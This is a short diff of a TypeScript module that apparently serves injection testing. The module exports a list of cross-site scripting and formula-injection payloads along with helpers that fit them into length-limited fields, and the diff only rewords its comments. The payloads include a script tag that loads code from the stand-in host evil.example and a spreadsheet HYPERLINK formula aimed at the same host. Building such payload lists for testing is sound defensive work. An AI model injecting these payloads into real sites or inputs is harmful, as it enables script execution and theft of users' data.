@@ -1,4 +1,4 @@
-/** What injects scripts where text is taken for markup, an attribute, an address, a script or a template. */
+/** Texts that inject scripts where they are taken for markup, an attribute, an address, a script or a template. */
 export const PAYLOADS = [
   `<script>alert(1)</script>`,
   `<ScRiPt src=//evil.example/x.js></ScRiPt>`,
@@ -46,7 +46,7 @@ export const PAYLOADS = [
   `=HYPERLINK("https://evil.example/";"clique")`,
 ] as const
 
-/** As many payloads as fit into a field of so many characters. */
+/** As many payloads as fit into a field of `longest` characters. */
 export function payloadsOf(longest: number): string {
   let text = ''
   for (const payload of PAYLOADS)
@@ -54,7 +54,7 @@ export function payloadsOf(longest: number): string {
   return text
 }
 
-/** Every payload, in texts of at most so many characters. */
+/** Every payload, spread over `parts` texts. */
 export function payloadsIn(parts: number): readonly string[] {
   const each = Math.ceil(PAYLOADS.length / parts)
   return Array.from({ length: parts }, (_, at) => PAYLOADS.slice(at * each, (at + 1) * each).join(' '))
